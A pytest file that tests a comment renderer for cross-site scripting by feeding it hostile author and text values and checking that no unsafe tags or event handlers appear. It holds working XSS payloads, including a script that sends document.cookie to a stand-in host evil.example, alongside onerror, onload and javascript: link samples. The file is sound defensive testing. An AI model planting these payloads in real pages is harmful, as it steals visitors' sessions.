import importlib
from html.parser import HTMLParser

import pytest

ALLOWED = {"ul", "li", "strong", "p", "span", "div", "em", "br", "section", "article", "b", "i"}


def load():
    try:
        return importlib.import_module("render")
    except Exception as exc:
        pytest.fail(f"could not import render.py: {exc!r}")


class Tags(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))

    handle_startendtag = handle_starttag


def tags_in(html):
    p = Tags()
    p.feed(html)
    p.close()
    return p.tags


HOSTILE = [
    {"author": "<script>document.location='https://evil.example/?c='+document.cookie</script>",
     "text": "nice"},
    {"author": "mallory", "text": "<img src=x onerror=alert(1)>"},
    {"author": '<svg onload=alert(2)>', "text": "hi"},
    {"author": "eve", "text": '<a href="javascript:alert(3)">click</a>'},
]


@pytest.mark.parametrize("comment", HOSTILE, ids=["script-author", "img-text", "svg-author", "link-text"])
def test_visitor_html_is_not_rendered_as_markup(comment):
    html = load().render_comments([comment])
    for tag, attrs in tags_in(html):
        field = "author" if f"<{tag}" in comment["author"].lower() else "text"
        assert tag in ALLOWED, (
            f"a visitor's {field} became a real <{tag}> element in the page (cross-site scripting); "
            "escape user text with html.escape")
        handlers = [name for name, _ in attrs if name.startswith("on")]
        assert not handlers, f"the rendered HTML has an event-handler attribute {handlers} (XSS)"
